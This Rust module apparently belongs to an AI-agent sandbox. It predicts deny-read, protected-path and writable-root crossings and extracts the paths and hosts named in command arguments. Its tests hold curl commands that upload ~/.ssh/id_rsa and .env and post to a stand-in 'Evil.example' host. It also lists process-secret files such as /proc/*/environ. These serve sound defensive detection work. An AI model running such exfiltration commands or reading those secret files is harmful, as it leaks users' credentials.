//! Paths and hosts: expanding `~` and relative paths, matching path lists
//! (deny-read, protected, review-rule globs), deciding whether a write stays
//! inside the writable roots, and finding the paths and hosts an exec's
//! arguments mention.
//!
//! The sandbox enforces the same lists for real (Landlock); this module is
//! how the pipeline *predicts* a boundary crossing before anything runs.

use std::path::{Component, Path, PathBuf};
use std::sync::OnceLock;

use globset::{GlobSet, GlobSetBuilder};

use crate::config::globs::{self, GlobKind};
use crate::config::{Config, SandboxMode};

/// Where relative paths and `~` point.
#[derive(Debug, Clone)]
pub struct PathContext {
    pub workspace: PathBuf,
    pub home: PathBuf,
}

impl PathContext {
    /// From the process environment: `$HOME` (or `/root` as a fallback that
    /// fails closed: it is a deny-read target in no profile, but writes there
    /// are outside every writable root).
    pub fn from_env(workspace: &Path) -> Self {
        let home = std::env::var_os("HOME")
            .map(PathBuf::from)
            .unwrap_or_else(|| PathBuf::from("/root"));
        PathContext {
            workspace: workspace.to_path_buf(),
            home,
        }
    }

    /// Expand `~`, `$HOME`, `${HOME}` and make `raw` absolute against `base`
    /// (the workspace when `None`), normalising `.` and `..` lexically.
    pub fn resolve(&self, raw: &str, base: Option<&Path>) -> PathBuf {
        let home = self.home.to_string_lossy();
        let expanded = if raw == "~" || raw == "$HOME" || raw == "${HOME}" {
            home.to_string()
        } else if let Some(rest) = raw
            .strip_prefix("~/")
            .or_else(|| raw.strip_prefix("$HOME/"))
            .or_else(|| raw.strip_prefix("${HOME}/"))
        {
            format!("{home}/{rest}")
        } else {
            raw.to_owned()
        };
        let p = Path::new(&expanded);
        let joined = if p.is_absolute() {
            p.to_path_buf()
        } else {
            base.unwrap_or(&self.workspace).join(p)
        };
        normalize(&joined)
    }

    /// Like [`resolve`](Self::resolve), then follow symlinks of the longest
    /// existing ancestor, so a workspace symlink to `/etc` is seen as `/etc`
    /// (the same resolution the sandbox uses for its own paths).
    pub fn resolve_real(&self, raw: &str, base: Option<&Path>) -> PathBuf {
        crate::sandbox::resolve::canonical_or_normal(&self.resolve(raw, base))
    }
}

/// Remove `.` and resolve `..` without touching the filesystem.
pub fn normalize(p: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for c in p.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

fn has_glob(s: &str) -> bool {
    s.contains(['*', '?', '[', '{'])
}

/// A list of paths and globs (`~/.ssh`, `/etc/**`, `**/.env`, `.git`).
/// A plain path covers itself and everything beneath it.
#[derive(Debug, Clone)]
pub struct PathSet {
    prefixes: Vec<PathBuf>,
    globs: Globs,
    empty: bool,
}

/// The globs of a [`PathSet`]: compiled into one matcher when the set is
/// built ([`PathSet::new`]), or the first time a path reaches them
/// ([`PathSet::restricting`]).
#[derive(Debug, Clone)]
enum Globs {
    Compiled(GlobSet),
    OnFirstUse {
        parsed: Vec<globset::Glob>,
        set: OnceLock<Option<GlobSet>>,
    },
}

impl PathSet {
    /// Compile `entries`; relative entries are relative to the workspace.
    pub fn new(entries: &[String], ctx: &PathContext) -> Result<Self, String> {
        let (prefixes, parsed) = Self::parse(entries, ctx)?;
        let globs = build(parsed).map_err(|e| e.to_string())?;
        Ok(PathSet {
            empty: prefixes.is_empty() && globs.is_empty(),
            prefixes,
            globs: Globs::Compiled(globs),
        })
    }

    /// [`PathSet::new`] for a set that restricts what it covers (deny-read,
    /// protected): each glob is parsed now (a bad one is an error here),
    /// and their matcher is compiled the first time a path reaches it —
    /// most decisions never do, and compiling it was a tenth of a `warden
    /// check`. Should that compilation fail (the regex engine's size
    /// limits), the set covers every path: fail closed.
    pub fn restricting(entries: &[String], ctx: &PathContext) -> Result<Self, String> {
        let (prefixes, parsed) = Self::parse(entries, ctx)?;
        Ok(PathSet {
            empty: prefixes.is_empty() && parsed.is_empty(),
            prefixes,
            globs: Globs::OnFirstUse {
                parsed,
                set: OnceLock::new(),
            },
        })
    }

    /// The plain paths (resolved) and the parsed globs of `entries`.
    fn parse(
        entries: &[String],
        ctx: &PathContext,
    ) -> Result<(Vec<PathBuf>, Vec<globset::Glob>), String> {
        let mut prefixes = Vec::new();
        let mut parsed = Vec::new();
        for entry in entries {
            if has_glob(entry) {
                let pattern = if entry.starts_with("**") || entry.starts_with('/') {
                    entry.clone()
                } else if entry.starts_with('~') || entry.starts_with("$HOME") {
                    // Expand the home part only; the rest stays a glob.
                    ctx.resolve(entry, None).to_string_lossy().into_owned()
                } else {
                    // The workspace name is literal (`/tmp/build[1]`).
                    format!(
                        "{}/{}",
                        globset::escape(&ctx.workspace.to_string_lossy()),
                        entry
                    )
                };
                for p in [
                    pattern.clone(),
                    format!("{}/**", pattern.trim_end_matches('/')),
                ] {
                    let glob = globs::compile(&p, GlobKind::Path)
                        .map_err(|e| format!("invalid glob `{entry}`: {e}"))?;
                    parsed.push(glob);
                }
            } else {
                prefixes.push(ctx.resolve(entry, None));
            }
        }
        Ok((prefixes, parsed))
    }

    /// Cover `path` (absolute) and everything beneath it too.
    pub fn add_path(&mut self, path: PathBuf) {
        self.prefixes.push(path);
        self.empty = false;
    }

    /// Whether `path` (absolute, normalised) is covered.
    pub fn contains(&self, path: &Path) -> bool {
        if self.empty {
            return false;
        }
        let bytes = path.as_os_str().as_encoded_bytes();
        if self
            .prefixes
            .iter()
            .any(|p| under(bytes, p.as_os_str().as_encoded_bytes()))
        {
            return true;
        }
        match &self.globs {
            Globs::Compiled(set) => !set.is_empty() && set.is_match(path),
            Globs::OnFirstUse { parsed, set } => {
                if parsed.is_empty() {
                    return false;
                }
                match set.get_or_init(|| build(parsed.clone()).ok()) {
                    Some(set) => set.is_match(path),
                    None => true,
                }
            }
        }
    }

    /// Validate glob syntax only (used by the config loader).
    pub fn validate(entry: &str) -> Result<(), String> {
        if has_glob(entry) {
            globs::compile(entry, GlobKind::Path)
                .map_err(|e| format!("invalid glob `{entry}`: {e}"))?;
        }
        Ok(())
    }
}

/// One matcher for `globs`.
fn build(globs: Vec<globset::Glob>) -> Result<GlobSet, globset::Error> {
    let mut builder = GlobSetBuilder::new();
    for glob in globs {
        builder.add(glob);
    }
    builder.build()
}

/// Files that expose a process's environment or memory. The sandbox keeps
/// them out of reach without listing them (the child's environment is
/// scrubbed, warden is not dumpable, and Landlock forbids ptrace-level
/// access to processes outside the sandbox), so they cannot be `deny_read`
/// entries (which are expanded from the filesystem); the pipeline treats a
/// read of one as a deny-read crossing all the same.
pub const PROCESS_SECRETS: &[&str] = &[
    "/proc/*/environ",
    "/proc/*/task/*/environ",
    "/proc/*/mem",
    "/proc/*/task/*/mem",
];

fn process_secrets() -> &'static GlobSet {
    static SET: std::sync::OnceLock<GlobSet> = std::sync::OnceLock::new();
    SET.get_or_init(|| {
        let mut b = GlobSetBuilder::new();
        for p in PROCESS_SECRETS {
            b.add(globs::compile(p, GlobKind::Path).expect("constant glob"));
        }
        b.build().expect("constant globs")
    })
}

/// `Path::starts_with` on normalised paths, as a byte comparison (the
/// component-wise one is the pipeline's hottest path check).
fn under(path: &[u8], prefix: &[u8]) -> bool {
    path.starts_with(prefix)
        && (path.len() == prefix.len() || prefix.ends_with(b"/") || path[prefix.len()] == b'/')
}

/// Where a write would land relative to the sandbox.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WriteTarget {
    /// Inside a writable root, not protected: routine.
    Inside,
    /// Inside a writable root but on a protected path (`.git`, …).
    Protected,
    /// Outside every writable root.
    Outside,
}

/// The sandbox's file rules, as the pipeline predicts them.
#[derive(Debug, Clone)]
pub struct PathPolicy {
    pub ctx: PathContext,
    pub mode: SandboxMode,
    pub deny_read: PathSet,
    pub protected: PathSet,
    pub writable_roots: Vec<PathBuf>,
}

impl PathPolicy {
    pub fn new(cfg: &Config, ctx: PathContext) -> Result<Self, String> {
        // The sandbox also denies `$RUNNER_TEMP` (src/sandbox/resolve.rs):
        // an escalation naming it is a deny-read crossing like any other.
        let mut deny_entries = cfg.sandbox.deny_read.clone();
        if let Some(temp) = std::env::var_os("RUNNER_TEMP").filter(|v| !v.is_empty()) {
            let temp = PathBuf::from(temp);
            if temp.is_absolute() && !ctx.workspace.starts_with(&temp) {
                deny_entries.push(temp.to_string_lossy().into_owned());
            }
        }
        let deny_read = PathSet::restricting(&deny_entries, &ctx)?;
        let protected = PathSet::restricting(&cfg.sandbox.protected, &ctx)?;
        let writable_roots = match cfg.sandbox_mode {
            SandboxMode::ReadOnly => Vec::new(),
            SandboxMode::WorkspaceWrite | SandboxMode::DangerFullAccess => {
                let mut roots = vec![ctx.workspace.clone()];
                roots.extend(
                    cfg.sandbox
                        .writable_roots
                        .iter()
                        .map(|r| ctx.resolve(r, None)),
                );
                roots
            }
        };
        Ok(PathPolicy {
            mode: cfg.sandbox_mode,
            deny_read,
            protected,
            writable_roots,
            ctx,
        })
    }

    /// Whether reading `path` crosses the sandbox: a deny-read entry, or
    /// another process's environment or memory ([`PROCESS_SECRETS`]).
    pub fn is_deny_read(&self, path: &Path) -> bool {
        self.deny_read.contains(path) || process_secrets().is_match(path)
    }

    pub fn write_target(&self, path: &Path) -> WriteTarget {
        if self.mode == SandboxMode::DangerFullAccess {
            return WriteTarget::Inside;
        }
        if !self.writable_roots.iter().any(|r| path.starts_with(r)) {
            return WriteTarget::Outside;
        }
        if self.protected.contains(path) || self.deny_read.contains(path) {
            return WriteTarget::Protected;
        }
        WriteTarget::Inside
    }
}

/// Words of an exec that may name files: every non-option word, plus the
/// value part of `--opt=VALUE`, `k=@FILE` (curl forms) and `@FILE`.
pub fn exec_path_words(argv: &[String]) -> Vec<&str> {
    let mut out = Vec::new();
    for w in argv.iter().skip(1) {
        let w = w.as_str();
        if w.is_empty() || w.contains("://") {
            continue;
        }
        let candidate = if let Some((_, v)) = w.split_once('=') {
            v
        } else if w.starts_with('-') {
            continue;
        } else {
            w
        };
        let candidate = candidate.trim_start_matches(['@', '<']);
        if !candidate.is_empty() {
            out.push(candidate);
        }
    }
    out
}

/// Hosts an exec's arguments mention: URLs (`https://host:port/…`) and
/// scp-like remotes (`git@host:org/repo`, `user@host:path`).
pub fn exec_hosts(argv: &[String]) -> Vec<String> {
    let mut hosts = Vec::new();
    for w in argv.iter().skip(1) {
        if let Some(h) = url_host(w) {
            hosts.push(h);
        } else if let Some(h) = scp_host(w) {
            hosts.push(h);
        }
    }
    hosts.sort();
    hosts.dedup();
    hosts
}

/// The host of `scheme://[user@]host[:port]/…`, lower-cased.
pub fn url_host(word: &str) -> Option<String> {
    let start = word.find("://")? + 3;
    let rest = &word[start..];
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

fn scp_host(word: &str) -> Option<String> {
    if word.starts_with('-') || word.starts_with('/') || word.contains("://") {
        return None;
    }
    let (before, _) = word.split_once(':')?;
    let host = before.rsplit('@').next()?;
    let looks_like_host = !host.is_empty()
        && host.contains('.')
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
    (looks_like_host && before.contains('@')).then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx() -> PathContext {
        PathContext {
            workspace: PathBuf::from("/ws"),
            home: PathBuf::from("/home/u"),
        }
    }

    #[test]
    fn resolves_home_and_relative() {
        let c = ctx();
        assert_eq!(
            c.resolve("~/.ssh/id_rsa", None),
            PathBuf::from("/home/u/.ssh/id_rsa")
        );
        assert_eq!(c.resolve("$HOME/.aws", None), PathBuf::from("/home/u/.aws"));
        assert_eq!(
            c.resolve("src/../../etc/passwd", None),
            PathBuf::from("/etc/passwd")
        );
        assert_eq!(c.resolve("a", Some(Path::new("/x"))), PathBuf::from("/x/a"));
    }

    #[test]
    fn path_sets_cover_prefixes_and_globs() {
        let entries: Vec<String> = ["~/.ssh", "**/.env", "**/.env.*", "/etc/**", "secrets"]
            .map(String::from)
            .to_vec();
        let eager = PathSet::new(&entries, &ctx()).unwrap();
        let lazy = PathSet::restricting(&entries, &ctx()).unwrap();
        for set in [eager, lazy] {
            path_set_covers(&set);
        }
        let root = PathSet::new(&["/".into()], &ctx()).unwrap();
        assert!(root.contains(Path::new("/etc/passwd")) && root.contains(Path::new("/")));
    }

    #[test]
    fn a_restricting_set_compiles_its_globs_on_first_use_and_fails_closed() {
        let set = PathSet::restricting(&["~/.ssh".into(), "**/.env".into()], &ctx()).unwrap();
        let Globs::OnFirstUse { set: matcher, .. } = &set.globs else {
            panic!("compiled up front");
        };
        // A plain path is answered by the prefixes alone.
        assert!(set.contains(Path::new("/home/u/.ssh/id_rsa")));
        assert!(matcher.get().is_none());
        assert!(set.contains(Path::new("/ws/app/.env")));
        assert!(matches!(matcher.get(), Some(Some(_))));
        assert!(!set.contains(Path::new("/ws/app/main.rs")));
        // A bad glob is still an error when the set is built.
        assert!(PathSet::restricting(&["a[b".into()], &ctx()).is_err());
        // A matcher that could not be compiled covers everything.
        let failed = PathSet {
            prefixes: Vec::new(),
            globs: Globs::OnFirstUse {
                parsed: vec![globs::compile("**/x", GlobKind::Path).unwrap()],
                set: OnceLock::from(None),
            },
            empty: false,
        };
        assert!(failed.contains(Path::new("/ws/src/main.rs")));
    }

    fn path_set_covers(set: &PathSet) {
        for p in [
            "/home/u/.ssh/id_rsa",
            "/home/u/.ssh",
            "/ws/app/.env",
            "/ws/.env.local",
            "/etc/passwd",
            "/ws/secrets/k",
        ] {
            assert!(set.contains(Path::new(p)), "{p}");
        }
        for p in ["/home/u/.sshx", "/ws/app/env", "/ws/src/main.rs", "/etcx"] {
            assert!(!set.contains(Path::new(p)), "{p}");
        }
    }

    #[test]
    fn hosts_from_arguments() {
        let argv: Vec<String> = [
            "curl",
            "-F",
            "k=@x",
            "https://User:pw@Evil.example:8443/p",
            "git@github.com:o/r.git",
            "http://[::1]:80/",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        assert_eq!(exec_hosts(&argv), vec!["::1", "evil.example", "github.com"]);
    }

    #[test]
    fn path_words_include_option_values() {
        let argv: Vec<String> = [
            "curl",
            "-F",
            "k=@~/.ssh/id_rsa",
            "--data-binary",
            "@.env",
            "-s",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        assert_eq!(exec_path_words(&argv), vec!["~/.ssh/id_rsa", ".env"]);
    }
}
